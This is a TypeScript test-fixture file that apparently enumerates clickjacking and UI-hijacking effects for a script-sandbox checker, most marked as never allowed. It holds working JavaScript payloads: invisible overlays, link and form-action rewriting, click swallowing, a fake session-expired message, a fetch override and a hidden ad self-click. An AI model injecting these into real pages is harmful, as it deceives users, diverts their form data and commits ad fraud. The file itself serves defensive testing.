import { quote } from '../case-context.ts'
import { createEffects } from './effect.ts'

const go = (code: (url: string) => string) => (context: { url: (kind: string) => string }) =>
  code(quote(context.url('go')))
const over = 'position:fixed;left:0;top:0;width:100vw;height:100vh;z-index:2147483647;'
const cover = (url: string, style: string, where = 'D') =>
  `var a=${where}.createElement('a');a.href=${url};a.target='_top';a.style.cssText='${style}';${where}.body.appendChild(a);`

export const clickHijacks = [
  ...createEffects(
    'click-hijack',
    'link',
    {
      'transparent link over the page': go((url) => cover(url, `${over}opacity:0`)),
      'link without a colour over the page': go((url) => cover(url, over)),
      'almost transparent link': go((url) => cover(url, `${over}background:#fff;opacity:.01`)),
      'absolute link over the page': go((url) => cover(url, 'position:absolute;inset:0;height:2000px;z-index:9999')),
      'tiles over the page': go(
        (url) =>
          `for(var i=0;i<20;i++)for(var j=0;j<10;j++){var a=D.createElement('a');a.href=${url};a.style.cssText='position:fixed;z-index:99999;width:52px;height:82px;left:'+i*50+'px;top:'+j*80+'px';D.body.appendChild(a)}`,
      ),
      'strip over the link': go((url) =>
        cover(url, 'position:fixed;left:0;top:230px;width:600px;height:60px;z-index:99999'),
      ),
      'div that listens': go(
        (url) =>
          `var a=D.createElement('div');a.style.cssText='${over}';a.onclick=function(){W.location=${url}};D.body.appendChild(a)`,
      ),
      'div in a shadow root': go(
        (url) =>
          `var h=D.createElement('div');D.body.appendChild(h);h.attachShadow({mode:'closed'}).innerHTML='<a href="'+${url}+'" style="${over}"></a>'`,
      ),
      'link by markup': go(
        (url) => `D.body.insertAdjacentHTML('afterbegin','<a href="'+${url}+'" style="${over}"></a>')`,
      ),
      'style rule in the page': go(
        (url) =>
          `var y=D.createElement('style');y.textContent='.q3::after{content:"";${over}}';D.head.appendChild(y);var a=D.createElement('a');a.className='q3';a.href=${url};D.body.appendChild(a)`,
      ),
      'popover over the page': go(
        (url) =>
          `var a=D.createElement('a');a.href=${url};a.popover='manual';a.style.cssText='width:100vw;height:100vh;border:0;margin:0;padding:0;inset:0;background:none';D.body.appendChild(a);a.showPopover()`,
      ),
      'modal dialog over the page': go(
        (url) =>
          `var d=D.createElement('dialog');d.style.cssText='width:100vw;height:100vh;max-width:none;max-height:none;border:0;margin:0;padding:0;background:none;opacity:0';d.onclick=function(){W.location=${url}};D.body.appendChild(d);d.showModal()`,
      ),
      'frame over the page': (context) =>
        `var f=D.createElement('iframe');f.src=${quote(context.file('<body style="margin:0;height:99vh">', 'html'))};f.style.cssText='${over}border:0;opacity:0';D.body.appendChild(f)`,
      'its own frame over the page': () =>
        `var f=window.frameElement||S;f.style.cssText='${over}border:0;opacity:.001'`,
      'follows the pointer': go(
        (url) =>
          `${cover(url, 'position:fixed;width:40px;height:40px;opacity:0;z-index:99999')}D.addEventListener('mousemove',function(e){a.style.left=e.clientX-20+'px';a.style.top=e.clientY-20+'px'})`,
      ),
      'link is changed': go((url) => `D.querySelectorAll('a').forEach(function(a){a.href=${url}})`),
      'link attribute is changed': go((url) => `D.getElementById('more').setAttribute('href',${url})`),
      'link attribute node is changed': go((url) => `D.getElementById('more').getAttributeNode('href').value=${url}`),
      'link is replaced': go(
        (url) => `var o=D.getElementById('more'),n=o.cloneNode(true);n.href=${url};o.replaceWith(n)`,
      ),
      'link in a rewritten parent': go(
        (url) =>
          `var p=D.getElementById('more').parentNode;p.innerHTML=p.innerHTML.replace(/href="[^"]*"/,'href="'+${url}+'"')`,
      ),
      'link is changed on press': go(
        (url) =>
          `D.addEventListener('mousedown',function(e){var a=e.target.closest&&e.target.closest('a');a&&(a.href=${url})},true)`,
      ),
      'clicks are taken': go(
        (url) =>
          `D.addEventListener('click',function(e){e.preventDefault();e.stopPropagation();W.location=${url}},true)`,
      ),
      'clicks are swallowed': () =>
        "W.addEventListener('click',function(e){e.stopImmediatePropagation();e.preventDefault()},true)",
      'presses are taken': go((url) => `W.addEventListener('mouseup',function(){W.location.href=${url}})`),
      'click property of the page': go((url) => `D.onclick=function(){W.location.href=${url};return false}`),
      'click attribute on the body': go(
        (url) => `D.body.setAttribute('onclick','location='+JSON.stringify(${url})+';return false')`,
      ),
      'click property of the link': go(
        (url) => `D.getElementById('more').onclick=function(){W.location=${url};return false}`,
      ),
      'navigation is taken': go(
        (url) =>
          `W.navigation.addEventListener('navigate',function(e){e.cancelable&&e.preventDefault();W.location=${url}})`,
      ),
      'navigation goes nowhere': () =>
        "W.navigation.addEventListener('navigate',function(e){e.canIntercept&&e.intercept({handler:function(){return Promise.resolve()}})})",
      'navigation is cancelled': () => 'W.navigation.onnavigate=function(e){e.cancelable&&e.preventDefault()}',
      'page is inert': () => 'D.body.inert=true',
      'link is inert': () => "D.getElementById('teaser').setAttribute('inert','')",
      'link has no address': () => "D.getElementById('more').removeAttribute('href')",
      'link opens a window': () => "D.getElementById('more').target='_blank'",
      'modal dialog of one pixel': () =>
        "var y=D.createElement('style');y.textContent='#q8::backdrop{background:none}#q8{width:1px;height:1px;padding:0;border:0;opacity:0}';D.head.append(y);var d=D.createElement('dialog');d.id='q8';D.body.append(d);d.showModal()",
      'pointer is captured': go(
        (url) =>
          `var c=D.createElement('a');c.href=${url};c.style.cssText='position:fixed;left:0;top:0;width:1px;height:1px';D.body.append(c);D.addEventListener('pointerdown',function(e){c.setPointerCapture(e.pointerId)},true)`,
      ),
      'link goes away on press': () =>
        "D.addEventListener('pointerdown',function(e){e.target.id==='more'&&e.target.remove()},true)",
      'link is wrapped': go(
        (url) =>
          `var o=D.getElementById('more').firstChild,a=D.createElement('span');a.onclick=function(e){e.preventDefault();W.location=${url}};o.replaceWith(a);a.append(o)`,
      ),
      'image map over the link': go(
        (url) =>
          `D.body.insertAdjacentHTML('beforeend','<map name="q8"><area shape="rect" coords="0,0,600,60" href="'+${url}+'"></map><img usemap="#q8" width="600" height="60" style="position:fixed;left:0;top:230px;z-index:9999;opacity:0" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">')`,
      ),
      'label over the link': go(
        (url) =>
          `D.body.insertAdjacentHTML('beforeend','<form action="'+${url}+'"><button id="q9" style="width:1px;height:1px;padding:0"></button></form><label for="q9" style="position:fixed;left:0;top:230px;width:600px;height:60px;z-index:9999"></label>')`,
      ),
      'SVG link over the link': go(
        (url) =>
          `D.body.insertAdjacentHTML('beforeend','<svg style="position:fixed;left:0;top:230px;z-index:9999" width="600" height="60"><a href="'+${url}+'"><rect width="600" height="60" fill="transparent"/></a></svg>')`,
      ),
      'base address': (context) =>
        `var b=D.createElement('base');b.href=${quote(`${context.origin}/go/`)};D.head.prepend(b)`,
      'base of the page is changed': (context) =>
        `D.head.insertAdjacentHTML('afterbegin','<base href="${context.origin}/">')`,
      'clicks go nowhere': () => "D.body.style.pointerEvents='none'",
      'clicks go nowhere by a rule': () =>
        "var y=D.createElement('style');y.textContent='*{pointer-events:none!important}';D.head.appendChild(y)",
      'prototype of links': go(
        (url) =>
          `Object.defineProperty(W.HTMLAnchorElement.prototype,'q',{});D.addEventListener('pointerdown',function(e){var a=e.target;a.tagName==='A'&&Object.assign(a,{href:${url}})},true)`,
      ),
      'text in the page': go((url) => `W.eval('document.links[0].href='+JSON.stringify(${url}))`),
    },
    { isNeverAllowed: true },
  ),
  ...createEffects(
    'click-hijack',
    'form',
    {
      'form action': go((url) => `D.forms[0].action=${url}`),
      'form action attribute': go((url) => `D.forms[0].setAttribute('action',${url})`),
      'form action on submit': go((url) => `D.addEventListener('submit',function(e){e.target.action=${url}},true)`),
      'formaction of the button': go((url) => `D.forms[0].querySelector('button').formAction=${url}`),
      'form goes nowhere': () => 'D.forms[0].onsubmit=function(){return false}',
      'field is made invalid': () => "D.getElementById('email').setCustomValidity('Your session has expired')",
      'button is no longer for the form': () => "D.forms[0].querySelector('button').type='button'",
      'button is for another form': go(
        (url) =>
          `D.body.insertAdjacentHTML('beforeend','<form id="q8" action="'+${url}+'"></form>');D.forms[0].querySelector('button').setAttribute('form','q8')`,
      ),
      'form target': go(() => "D.forms[0].setAttribute('target','_blank')"),
      'form submits elsewhere by its event': go(
        (url) => `D.forms[0].addEventListener('submit',function(e){e.preventDefault();W.location=${url}})`,
      ),
      'form is replaced': go(
        (url) => `var o=D.forms[0],n=o.cloneNode(true);n.action=${url};o.parentNode.replaceChild(n,o)`,
      ),
    },
    { isNeverAllowed: true },
  ),
  ...createEffects(
    'click-hijack',
    'button',
    {
      'button is cloned': () => "var b=D.getElementById('save');b.replaceWith(b.cloneNode(true))",
      'button is disabled': () => "D.getElementById('save').disabled=true",
      'button clicks are swallowed': () =>
        "D.getElementById('save').addEventListener('click',function(e){e.stopImmediatePropagation()},true)",
      'fetch of the page is replaced': (context) =>
        `W.fetch=(function(n){return function(){return n.call(W,${quote(context.url('go'))},{mode:'no-cors'})}})(W.fetch)`,
      'button is inert': () => "D.getElementById('save').inert=true",
      'method of the document is replaced': () => 'D.getElementById=function(){return null}',
      'dispatch is stopped at the press': () =>
        "D.getElementById('save').addEventListener('pointerdown',function(){this.disabled=true})",
      'button is removed': () => "D.getElementById('save').remove()",
    },
    { isNeverAllowed: true },
  ),
  ...createEffects('click-hijack', 'counted', {
    'clicks its own ad': (context) =>
      `var f=D.createElement('iframe');f.name='k4';f.style.display='none';D.body.appendChild(f);var a=document.createElement('a');a.href=${quote(context.url('click'))};a.target='k4';(document.body||document.documentElement).appendChild(a);a.click()`,
  }),
]
